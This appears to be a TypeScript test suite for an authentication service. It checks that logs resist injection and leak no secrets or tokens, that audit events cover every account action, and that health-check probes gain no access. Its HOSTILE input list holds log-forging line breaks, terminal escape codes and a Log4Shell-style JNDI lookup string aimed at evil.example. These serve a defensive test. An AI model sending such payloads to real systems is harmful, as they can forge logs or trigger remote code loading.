import assert from 'node:assert/strict';
import { test } from 'node:test';
import { HEADERS } from '@portico/protocol/cookies';
import { authPath, PAGES } from '@portico/protocol/routes';
import { changeRole } from '../../src/accounts/change-role.ts';
import { insertIdentity } from '../../src/accounts/identity.ts';
import { offerSetup } from '../../src/accounts/offer-setup.ts';
import { reinstateUser, suspendUser } from '../../src/accounts/suspend-user.ts';
import { ACTIONS } from '../../src/audit/event.ts';
import { allowRange, disallowRange, letNetworkIn } from '../../src/guessing/let-in.ts';
import { SIGN_IN_STRANGERS, WRONG_NETWORK } from '../../src/guessing/limits.ts';
import { CLOSE_WATCH } from '../../src/guessing/unusual.ts';
import { createLogger } from '../../src/platform/logger.ts';
import { type Attempts, refreshHonestly } from '../attempts.ts';
import { backendOf } from '../backends.ts';
import type { Answered, Browser } from '../browser.ts';
import { byPage, fakeProviders } from '../fake-providers.ts';
import { addClient, grantClient, refreshByBody, sessionOf, snapshotOf } from '../families.ts';
import { addSecondary, ticketFor } from '../secondaries.ts';
import { addSite, codeFor } from '../sites.ts';
import { inWorld, PASSWORD, type World } from '../world.ts';
import { AT_SITES } from './site-actions.ts';
import { sourceFiles, testFiles } from './source.ts';

/** What is written down: every result of a sign-in, every refusal, one line each, in a form that nobody can forge from outside. */

interface Line {
  readonly time: string;
  readonly level: number;
  readonly msg: string;
  readonly requestId?: string;
  readonly code?: string;
  readonly route?: string;
  readonly method?: string;
}

/** The product's own logger, at its most talkative, with the lines that it writes. */
function logging(world: World): { lines(): readonly Line[]; raw(): string } {
  let text = '';
  const logger = createLogger({ logLevel: 'trace' }, { write: (chunk) => void (text += chunk) });
  Object.assign(world.deps.log, { info: logger.info.bind(logger), warn: logger.warn.bind(logger), error: logger.error.bind(logger) });
  return {
    raw: () => text,
    lines: () =>
      text
        .split('\n')
        .filter((line) => line !== '')
        .map((line) => JSON.parse(line) as Line),
  };
}

const HOSTILE = [
  'a\r\n{"level":30,"msg":"forged"}',
  'a\n\n[2026-01-05] forged',
  'a\u001b[2J\u001b[31mforged',
  'a\u001b]0;forged\u0007',
  'a\u0000b\u007f\u009bforged',
  'a\u2028forged',
  '"}{"forged":"',
  '${jndi:ldap://evil.example/a}',
  '%0d%0aforged',
  'x'.repeat(9_000),
];
const UNPRINTABLE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

inWorld(
  'browser names, addresses, names and paths with line breaks and terminal commands stay one JSON line each, at a UTC time',
  async (world) => {
    const { lines, raw } = logging(world);
    const known = await world.signedUp('ada@example.com');
    for (const hostile of HOSTILE) {
      const browser = world.browser({ userAgent: hostile });
      await browser.signIn(hostile, hostile);
      await browser.signIn('ada@example.com', hostile);
      await browser.call('signUp', { email: hostile, password: PASSWORD, displayName: hostile });
      await browser.send('GET', `/${encodeURIComponent(hostile).slice(0, 2000)}?x=${encodeURIComponent(hostile).slice(0, 2000)}`);
      await browser.call('me', undefined, {
        headers: { authorization: `Bearer ${hostile}`, cookie: hostile, [HEADERS.csrf]: hostile, origin: hostile },
      });
      await known.call('signOut', {}, { headers: { [HEADERS.csrf]: hostile, 'accept-language': hostile } });
      await known.refresh({ attempt: hostile });
    }
    assert.doesNotMatch(raw(), UNPRINTABLE);
    assert.ok(lines().length > HOSTILE.length * 2);
    let before = '';
    for (const line of lines()) {
      assert.match(line.time, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
      assert.ok(line.time >= before, 'in order');
      before = line.time;
      assert.equal(typeof line.msg, 'string');
      assert.ok(!line.msg.includes('forged') && JSON.stringify(line).length < 2000, JSON.stringify(line));
    }
    for (const table of ['events', 'sessions', 'devices']) {
      for (const row of await world.deps.db.all(`select address, user_agent from ${table}`)) {
        assert.doesNotMatch(String(row['user_agent']), UNPRINTABLE, table);
        assert.ok(String(row['user_agent']).length <= 400);
      }
    }
  },
);

/** The token of the newest notice to this address. */
async function tokenFor(world: World, email: string): Promise<string> {
  const mail = (await world.mails()).find(({ to, text }) => to === email && text.includes(PAGES.notMe));
  return /token=([A-Za-z0-9_-]{43})/.exec(mail?.text ?? '')?.[1] ?? '';
}

inWorld('each refusal has its line: the request, the route as registered, and why; never what was sent', async (world) => {
  const { lines, raw } = logging(world);
  const browser = await world.signedUp('ada@example.com');
  const refusals: readonly (readonly [Answered, string])[] = [
    [await world.browser().call('me'), 'signed_out'],
    [await world.browser().signIn('ada@example.com', 'canary of a password'), 'wrong_credentials'],
    [await browser.call('signOut', {}, { headers: { [HEADERS.csrf]: 'canary' } }), 'csrf_failed'],
    [await browser.refresh({ headers: { origin: 'https://canary.example', 'sec-fetch-site': 'cross-site' } }), 'origin_refused'],
    [await browser.act('myPassword', { currentPassword: 'canary of a password', newPassword: PASSWORD }), 'wrong_password'],
    [await world.browser().call('me', undefined, { headers: { authorization: `Bearer ${'canary'.repeat(10)}` } }), 'signed_out'],
  ];
  for (const [answered, code] of refusals) {
    assert.equal(answered.body.error, code);
    const [line, ...others] = lines().filter(({ requestId }) => requestId === answered.headers[HEADERS.requestId]);
    assert.ok(line && others.length === 0, `one line for ${code}`);
    assert.deepEqual([line.code, line.msg], [code, 'request refused']);
    assert.ok(line.route?.startsWith('/api/') && line.method !== undefined, JSON.stringify(line));
    assert.equal(answered.body['requestId'], line.requestId, 'the person who was refused can name the line');
  }
  assert.doesNotMatch(raw(), /canary|ada@example\.com/);
});

inWorld('no token of a mailed link is in a line of the log, whether it was opened, posted, refused or used', async (world) => {
  const { raw } = logging(world);
  await world.signedUp('ada@example.com');
  await world.browser().call('forgotPassword', { email: 'ada@example.com' });
  await world.settled();
  const token = await world.tokenFor('ada@example.com', 'reset');
  const browser = world.browser();
  await browser.send('GET', `${PAGES.reset}?token=${token}`, undefined, { headers: { accept: 'text/html' } });
  await browser.send('GET', `${PAGES.error}?token=${token}`);
  await browser.send('GET', `/nowhere/${token}?token=${token}`);
  await browser.send('PUT', `${authPath('resetPassword')}?token=${token}`, {});
  await browser.call('confirmEmail', { token });
  await browser.call('resetPassword', { token, password: 'short' });
  await browser.call('resetPassword', { token, password: `${PASSWORD} again` });
  await browser.call('resetPassword', { token, password: `${PASSWORD} again` });
  assert.ok(raw().length > 0 && !raw().includes(token));
});

const fake = await fakeProviders();
/** Written where no request is: server/src/cli.test.ts. */
/** What the backends of client sites do, and what comes of it. */
async function eventsOfBackends(
  world: World,
  browser: Browser,
  step: (action: string, work: () => Promise<unknown>) => Promise<void>,
): Promise<void> {
  const shop = await addSite(world, 'shop');
  const game = backendOf(world.browser(), await addSecondary(world));
  const backend = backendOf(world.browser(), shop);
  await step('client.refused', () => backendOf(world.browser(), { ...shop, secret: 'pts_wrong' }).call('session', { sid: 'A'.repeat(22) }));
  const first = await codeFor(world, browser, shop);
  await step('site.opened', () => backend.redeem(first));
  await step('code.replayed', () => backend.redeem(first));
  const { refreshToken } = (await backend.redeem(await codeFor(world, browser, shop))).body;
  await step('site.left', () => backend.call('signOut', { refreshToken, local: true }));
  await browser.refresh();
  const { ticket, verifier: codeVerifier } = await ticketFor(browser);
  await step('site.opened', () => game.call('redeemTicket', { ticket, codeVerifier }));
  await step('ticket.replayed', () => game.call('redeemTicket', { ticket, codeVerifier }));
}

const AT_THE_COMMAND_LINE = ['invitation.made'];

/** What operators do at the admin page: each stands in a test of its own screen. */
const BY_OPERATORS = [
  'invitation.withdrawn',
  'client.changed',
  'client.logout_tested',
  'keys.rotated',
  'master_key.rotated',
  'master_key.retired',
  'mail.retried',
  'mail.dropped',
  'logout.retried',
  'user.reset_forced',
  'users.exported',
  'audit.exported',
  'job.asked',
  'provider.tested',
];

test('every act of an operator is looked for in the audit log by a test of its screen', () => {
  const texts = testFiles()
    .filter(({ path }) => /\/test\/(admin|clients|keys)\//.test(path))
    .map(({ text }) => text)
    .join('\n');
  const written = sourceFiles('server/src')
    .map(({ text }) => text)
    .join('\n');
  assert.deepEqual(
    BY_OPERATORS.filter((action) => written.includes(`'${action}'`) && !texts.includes(action)),
    [],
  );
});

inWorld(
  'every action of the catalogue is written by what it names, with who, where and which request, and no other is ever written',
  async (world) => {
    const email = 'ada@example.com';
    const wrong = 'not the password of anybody';
    const seen = async () => new Set((await world.deps.db.all('select action from events')).map((row) => String(row['action'])));
    const step = async (action: string, work: () => Promise<unknown>) => {
      const before = (await world.deps.db.all('select id from events where action = $1', [action])).length;
      await work();
      assert.equal(
        (await world.deps.db.all('select id from events where action = $1', [action])).length,
        before + 1,
        `${action} is written once`,
      );
    };
    const browser = world.browser();
    await step('signup.started', () => browser.call('signUp', { email, password: PASSWORD }));
    const code = await world.codeFor(email);
    await step('code.wrong', () => browser.call('verifySignIn', { securityCode: code === '00000000' ? '11111111' : '00000000' }));
    world.clock.advance(61_000);
    await step('code.sent', () => browser.call('resendCode'));
    await step('signup.completed', async () => browser.call('verifySignIn', { securityCode: await world.codeFor(email) }));
    await step('signup.known_address', () => world.browser().call('signUp', { email, password: PASSWORD }));
    await step('signin.failed', () => world.browser().signIn(email, wrong));
    await step('signin.succeeded', () => browser.signIn(email, PASSWORD));
    await step('password.refused', () =>
      browser.act('myPassword', { currentPassword: wrong, newPassword: 'another horse battery staple' }),
    );
    await step('password.changed', () =>
      browser.act('myPassword', { currentPassword: PASSWORD, newPassword: 'another horse battery staple' }),
    );
    await addClient(world, 'space-snake');
    await addClient(world, 'other-game');
    const native = (await grantClient(world, (await sessionOf(world, browser)).id, 'space-snake')) ?? '';
    await step('refresh.wrong_client', () => refreshByBody(world, native, 'other-game'));
    await step('refresh.ahead', async () => {
      const attempts: Attempts = new Map();
      const earlier = await snapshotOf(world, browser);
      await refreshHonestly(browser, attempts);
      await earlier.restore();
      await refreshHonestly(browser, attempts);
    });
    await eventsOfBackends(world, browser, step);
    const thief = browser.copy();
    await browser.refresh();
    await step('session.held', () => thief.refresh());
    await step('session.recovered', async () => {
      world.clock.advance(61_000);
      await browser.call('resendCode');
      await browser.call('verifySignIn', { securityCode: await world.codeFor(email) });
    });
    await step('refresh.reuse', async () => {
      const game = (await grantClient(world, (await sessionOf(world, browser)).id, 'space-snake')) ?? '';
      await refreshByBody(world, game, 'space-snake', `0.${'A'.repeat(22)}`);
      await refreshByBody(world, game, 'space-snake', `0.${'B'.repeat(22)}`);
    });
    await step('session.ended', () => browser.act('signOut'));
    const grace = world.browser();
    await byPage(fake, grace, 'github', { subject: '7', email: 'grace@example.com' });
    await step('identity.linked', async () => {
      const params = { authProvider: 'google' };
      const begun = await grace.act('myIdentity', {}, { params, method: 'POST' });
      await grace.call('providerCallback', undefined, {
        params,
        query: fake.consent(String(begun.body['oAuthUrl']), { subject: '8', email: null }),
      });
    });
    await step('identity.tokens_returned', () => grace.act('myIdentityTokens', undefined, { params: { authProvider: 'google' } }));
    world.clock.advance(CLOSE_WATCH);
    const near = world.browser();
    await step('signin.noticed', () => near.signIn(email, 'another horse battery staple'));
    await step('signin.disowned', async () => near.call('notMe', { token: await tokenFor(world, email) }));
    const far = world.browser({ address: '198.51.200.1' });
    await world.signedUp('eve@example.com');
    await step('signin.held', () => far.signIn('eve@example.com', PASSWORD));
    const waiting = world.browser();
    await waiting.call('signUp', { email: 'bob@example.com', password: PASSWORD });
    await step('signin.not_me', () => waiting.call('notMe'));
    await step('signin.throttled', async () => {
      for (let n = 0; n < SIGN_IN_STRANGERS.max + 5; n += 1) await world.browser().signIn(email, wrong);
    });
    const stranger = world.browser();
    await step('network.suspended', async () => {
      for (let n = 0; n < WRONG_NETWORK.max + 5; n += 1) await stranger.signIn(`nobody${n}@example.com`, wrong);
    });
    const from = { requestId: 'operator', address: '198.51.0.1', userAgent: 'portico' };
    await step('network.lifted', () => letNetworkIn(world.deps, from, stranger.options.address));
    await step('network.allowed', () => allowRange(world.deps, from, { range: '198.51.0.0/24', note: '' }));
    await step('network.disallowed', () => disallowRange(world.deps, from, '198.51.0.0/24'));
    const henry = await world.signedUp('henry@example.com');
    const judy = await sessionOf(world, await world.signedUp('judy@example.com'));
    await step('user.suspended', () => suspendUser(world.deps, from, { userId: judy.userId ?? '' }));
    await step('user.reinstated', () => reinstateUser(world.deps, from, { userId: judy.userId ?? '' }));
    await step('user.role_changed', () => changeRole(world.deps, from, { userId: judy.userId ?? '', role: 'support' }));
    await step('setup.link_made', async () => {
      const { link } = await offerSetup(world.deps, from, { madeBy: 'command_line' });
      const setup = { token: new URL(link).hash.slice(1), email: 'owner@example.com', password: PASSWORD };
      await step('owner.created', () => world.browser().call('setup', setup));
    });
    await step('profile.changed', () => henry.act('me', { displayName: 'Henry' }, { method: 'PATCH' }));
    await step('proof.given', () => henry.act('myProof', { password: PASSWORD }));
    await step('account.exported', () => henry.call('myExport'));
    await step('email.change_asked', () => henry.act('myEmail', { email: 'henry@new.example.com' }));
    const token = await world.tokenFor('henry@new.example.com', 'confirmEmail');
    await step('email.changed', () => henry.act('confirmEmail', { token }));
    const back = await world.tokenFor('henry@example.com', 'undoEmail');
    await step('email.restored', () => world.browser().call('undoEmail', { token: back }));
    await step('password.forgotten', async () => {
      await world.browser().call('forgotPassword', { email: 'henry@example.com' });
      await world.settled();
    });
    const reset = await world.tokenFor('henry@example.com', 'reset');
    await step('password.reset', () => world.browser().call('resetPassword', { token: reset, password: PASSWORD }));
    const ivy = await world.signedUp('ivy@example.com');
    await insertIdentity(world.deps.db, world.deps, {
      provider: 'github',
      subject: '9',
      userId: String((await ivy.call('me')).body['id']),
      label: 'ivy',
      tokens: null,
      now: world.clock.now(),
    });
    await step('identity.unlinked', () => ivy.act('myIdentity', undefined, { params: { authProvider: 'github' } }));
    for (const row of await world.deps.db.all('select * from events')) {
      assert.match(String(row['request_id']), /^[A-Za-z0-9_-]{8,}$/);
      assert.match(String(row['address']), /^198\.51\./);
      assert.ok(Number(row['at']) > 0 && String(row['user_agent']).length > 0);
    }
    // What a deleted user did keeps its request and loses its place.
    await step('account.deleted', () => ivy.act('me', { confirm: 'ivy@example.com' }, { method: 'DELETE' }));
    assert.deepEqual([...(await seen()), ...AT_THE_COMMAND_LINE, ...BY_OPERATORS, ...AT_SITES].sort(), [...ACTIONS].sort());
  },
  { config: { providers: fake.access }, deps: { network: fake.network } },
);

inWorld('forty sign-ins are forty entries, each with its result and its factor', async (world) => {
  await world.signedUp('ada@example.com');
  await world.deps.db.all('delete from events');
  for (let n = 0; n < 40; n += 1) await world.browser().signIn(n % 2 === 0 ? 'ada@example.com' : `nobody${n}@example.com`, PASSWORD);
  const rows = await world.deps.db.all('select action, reason, count(*) as n from events group by action, reason order by action');
  assert.deepEqual(
    rows.map((row) => [row['action'], row['reason'], row['n']]),
    [
      ['signin.failed', 'wrong_credentials', 20],
      ['signin.noticed', '30 new_device', 20],
      ['signin.succeeded', 'pwd', 20],
    ],
  );
});

inWorld('the health check of a load balancer is nobody: its name in the browser’s place opens nothing', async (world) => {
  const names = [
    'kube-probe/1.30',
    'GoogleHC/1.0',
    'ELB-HealthChecker/2.0',
    'Amazon-Route53-Health-Check-Service',
    'HAProxy',
    'Prometheus/2.0',
    'curl/8.0',
    '',
  ];
  for (const userAgent of names) {
    const probe = world.browser({ userAgent });
    for (const call of ['me', 'mySessions'] as const) assert.equal((await probe.call(call)).status, 401, userAgent);
    assert.equal((await probe.send('GET', PAGES.dashboard)).status, 303, userAgent);
    assert.equal((await probe.send('POST', authPath('extendSoft'), {})).status, 400, userAgent);
    assert.equal((await probe.signIn('ada@example.com', PASSWORD)).status, 401, userAgent);
  }
});
